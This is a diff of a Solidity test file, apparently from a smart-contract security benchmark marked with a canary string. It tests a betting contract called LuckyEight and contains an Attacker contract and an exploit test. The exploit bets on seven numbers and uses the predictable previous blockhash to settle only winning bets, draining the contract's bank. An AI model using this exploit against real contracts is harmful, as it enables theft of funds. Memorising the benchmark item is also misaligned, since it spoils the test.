@@ -1,7 +1,7 @@
 // SPDX-License-Identifier: MIT
 pragma solidity 0.8.30;
 
-import "./TarnAngling.sol";
+import "./LuckyEight.sol";
 
 // assay-canary-a8331ac3-55e0-4505-8d45-5af373a76287
 
@@ -13,40 +13,40 @@ interface Vm {
     function expectRevert(bytes calldata reason) external;
 }
 
-/// Casts into every pool but one and lands each line in a block that suits it.
-/// Lets a tarn of its own, and takes no ether.
-contract Weir {
-    TarnAngling public tarn = new TarnAngling(1 ether);
+/// Has a bank of its own, and takes no ether.
+contract Deaf {
+    LuckyEight public game = new LuckyEight(1 ether);
 
-    function emptyPurse() external {
-        tarn.emptyPurse(1 ether);
+    function withdraw() external {
+        game.withdraw(1 ether);
     }
 }
 
+/// Bets on every number but one and settles each bet in a block that suits it.
 contract Attacker {
-    TarnAngling internal tarn;
+    LuckyEight internal game;
     uint256[] internal waiting;
 
-    constructor(TarnAngling tarn_) {
-        tarn = tarn_;
+    constructor(LuckyEight game_) {
+        game = game_;
     }
 
     receive() external payable {}
 
     function enter() external {
         for (uint8 i = 0; i < 7; ++i) {
-            waiting.push(tarn.cast{value: tarn.largestStake()}(i));
+            waiting.push(game.bet{value: game.maxStake()}(i));
         }
     }
 
-    /// In a block that is not the right one for a line, nothing happens to it.
+    /// In a block that is not the right one for a bet, nothing happens to it.
     function look() external {
         for (uint256 i = 0; i < waiting.length; ++i) {
             uint256 id = waiting[i];
-            TarnAngling.Line memory line = tarn.lineOf(id);
-            if (line.done) continue;
-            uint256 fishIn = uint256(keccak256(abi.encodePacked(blockhash(block.number - 1), id))) % 8;
-            if (fishIn == line.pool) tarn.land(id);
+            LuckyEight.Bet memory b = game.betOf(id);
+            if (b.settled) continue;
+            uint256 drawn = uint256(keccak256(abi.encodePacked(blockhash(block.number - 1), id))) % 8;
+            if (drawn == b.number) game.settle(id);
         }
     }
 }
@@ -54,66 +54,69 @@ contract Attacker {
 contract Proof {
     Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
 
-    TarnAngling private tarn;
-    Attacker private poacher;
-    address private constant UWE = address(0x10E0E);
+    LuckyEight private game;
+    Attacker private mallory;
+    address private constant TOM = address(0x70E);
 
     receive() external payable {}
 
     function setUp() public {
         vm.roll(1000);
         vm.deal(address(this), 22 ether);
-        tarn = new TarnAngling{value: 22 ether}(0.5 ether);
-        poacher = new Attacker(tarn);
-        vm.deal(address(poacher), 3.5 ether);
-        vm.deal(UWE, 8 ether);
+        game = new LuckyEight{value: 22 ether}(0.5 ether);
+        mallory = new Attacker(game);
+        vm.deal(address(mallory), 3.5 ether);
+        vm.deal(TOM, 8 ether);
     }
 
     function test_Regular() public {
-        vm.prank(UWE);
-        (bool ok, ) = address(tarn).call{value: 1 ether}(abi.encodeCall(tarn.cast, (0)));
+        vm.prank(TOM);
+        (bool ok, ) = address(game).call{value: 1 ether}(abi.encodeCall(game.bet, (0)));
         require(!ok, "stake too large");
-        // one line into each pool
+        // one bet on each number
         for (uint8 i = 0; i < 8; ++i) {
-            vm.prank(UWE);
-            require(tarn.cast{value: 0.25 ether}(i) == i, "ids");
+            vm.prank(TOM);
+            require(game.bet{value: 0.25 ether}(i) == i, "ids");
         }
-        require(UWE.balance == 6 ether && tarn.bound() == 14 ether, "stakes");
-        (ok, ) = address(tarn).call(abi.encodeCall(tarn.emptyPurse, (11 ether)));
-        require(!ok, "lines stay covered");
+        require(TOM.balance == 6 ether && game.reserved() == 14 ether, "stakes");
+        (ok, ) = address(game).call(abi.encodeCall(game.withdraw, (11 ether)));
+        require(!ok, "bets stay covered");
 
         vm.roll(1003);
-        vm.prank(UWE);
-        (ok, ) = address(tarn).call(abi.encodeCall(tarn.land, (0)));
-        require(!ok, "still soaking");
+        vm.prank(TOM);
+        (ok, ) = address(game).call(abi.encodeCall(game.settle, (0)));
+        require(!ok, "too early");
         vm.roll(1006);
-        (ok, ) = address(tarn).call(abi.encodeCall(tarn.land, (0)));
+        (ok, ) = address(game).call(abi.encodeCall(game.settle, (0)));
         require(!ok, "not theirs");
         uint256 won;
         for (uint256 i = 0; i < 7; ++i) {
-            vm.prank(UWE);
-            uint256 paid = tarn.land(i);
+            vm.prank(TOM);
+            uint256 paid = game.settle(i);
             require(paid == 0 || paid == 1.75 ether, "seven times the stake or nothing");
             won += paid;
         }
-        require(UWE.balance == 6 ether + won && tarn.bound() == 1.75 ether, "landed");
-        vm.prank(UWE);
-        (ok, ) = address(tarn).call(abi.encodeCall(tarn.land, (1)));
-        require(!ok, "landed twice");
+        require(TOM.balance == 6 ether + won && game.reserved() == 1.75 ether, "settled");
+        vm.prank(TOM);
+        (ok, ) = address(game).call(abi.encodeCall(game.settle, (1)));
+        require(!ok, "settled twice");
 
         vm.roll(1201);
-        vm.prank(UWE);
-        (ok, ) = address(tarn).call(abi.encodeCall(tarn.land, (7)));
-        require(!ok, "lost");
-        tarn.clear(7);
-        require(tarn.bound() == 0, "nothing bound");
-        tarn.emptyPurse(24 ether - won);
-        require(address(tarn).balance == 0, "purse emptied");
+        vm.prank(TOM);
+        (ok, ) = address(game).call(abi.encodeCall(game.settle, (7)));
+        require(!ok, "expired");
+        game.sweep(7);
+        require(game.reserved() == 0, "nothing reserved");
+        game.withdraw(24 ether - won);
+        require(address(game).balance == 0, "bank withdrawn");
 
-        tarn.setLargestStake(1 ether);
-        require(tarn.largestStake() == 1 ether, "largest stake");
-        (ok, ) = address(tarn).call{value: 1 ether}("");
-        require(ok && address(tarn).balance == 1 ether, "purse filled");
+        game.setMaxStake(1 ether);
+        require(game.maxStake() == 1 ether, "limit");
+        (ok, ) = address(game).call{value: 1 ether}("");
+        require(ok && address(game).balance == 1 ether, "bank filled");
+        game.transferOwnership(TOM);
+        vm.prank(TOM);
+        game.renounceOwnership();
     }
 
     // What is refused, each from the state after setUp().
@@ -130,57 +133,62 @@ contract Proof {
         vm.expectRevert(why);
     }
 
-    /// The landlord's purse and limit, and pools and stakes that there are.
-    function test_RefusesCasts() public {
-        refuses(UWE, TarnAngling.NotLandlord.selector);
-        tarn.emptyPurse(1);
-        refuses(UWE, TarnAngling.NotLandlord.selector);
-        tarn.setLargestStake(1);
-        refuses(UWE, abi.encodeWithSelector(TarnAngling.NoSuchPool.selector, 8));
-        tarn.cast{value: 0.1 ether}(8);
-        refuses(UWE, abi.encodeWithSelector(TarnAngling.StakeOutOfRange.selector, 0));
-        tarn.cast(0);
-        tarn.setLargestStake(8 ether);
-        refuses(UWE, TarnAngling.PurseTooSmall.selector);
-        tarn.cast{value: 5 ether}(0);
-        vm.prank(UWE);
-        uint256 id = tarn.cast{value: 0.1 ether}(0);
-        vm.expectRevert(abi.encodeWithSelector(TarnAngling.InTheWater.selector, 1200));
-        tarn.clear(id);
+    /// The owner's bank and limit, and numbers and stakes that there are.
+    function test_RefusesBets() public {
+        refuses(TOM, abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, TOM));
+        game.withdraw(1);
+        refuses(TOM, abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, TOM));
+        game.setMaxStake(1);
+        bytes memory why = abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, TOM);
+        refuses(TOM, why);
+        game.transferOwnership(TOM);
+        refuses(TOM, why);
+        game.renounceOwnership();
+        refuses(TOM, abi.encodeWithSelector(LuckyEight.BadNumber.selector, 8));
+        game.bet{value: 0.1 ether}(8);
+        refuses(TOM, abi.encodeWithSelector(LuckyEight.BadStake.selector, 0));
+        game.bet(0);
+        game.setMaxStake(8 ether);
+        refuses(TOM, LuckyEight.BankTooSmall.selector);
+        game.bet{value: 5 ether}(0);
+        vm.prank(TOM);
+        uint256 id = game.bet{value: 0.1 ether}(0);
+        vm.expectRevert(abi.encodeWithSelector(LuckyEight.TooEarly.selector, 1200));
+        game.sweep(id);
         vm.roll(1201);
-        tarn.clear(id);
-        vm.expectRevert(abi.encodeWithSelector(TarnAngling.AlreadyDone.selector, id));
-        tarn.clear(id);
+        game.sweep(id);
+        vm.expectRevert(abi.encodeWithSelector(LuckyEight.Settled.selector, id));
+        game.sweep(id);
     }
 
     /// Ether goes to who takes it.
     function test_RefusesFailedPayments() public {
-        Weir weir = new Weir();
-        vm.deal(address(weir.tarn()), 1 ether);
-        vm.expectRevert(TarnAngling.NotPaid.selector);
-        weir.emptyPurse();
+        Deaf deaf = new Deaf();
+        vm.deal(address(deaf.game()), 1 ether);
+        vm.expectRevert("not sent");
+        deaf.withdraw();
     }
 
     function exploit() public {
-        poacher.enter();
+        mallory.enter();
         uint256 start = block.number;
         for (uint256 i = 4; i <= 120; ++i) {
             vm.roll(start + i);
-            poacher.look();
+            mallory.look();
         }
     }
 
     function test_Exploit() public {
-        uint256 before = address(poacher).balance;
+        uint256 before = address(mallory).balance;
         exploit();
-        require(address(poacher).balance >= before + 20 ether, "nothing gained");
+        require(address(mallory).balance >= before + 20 ether, "nothing gained");
     }
 
     function target() public view returns (address) {
-        return address(tarn);
+        return address(game);
     }
 
     function attacker() public view returns (address) {
-        return address(poacher);
+        return address(mallory);
     }
 }
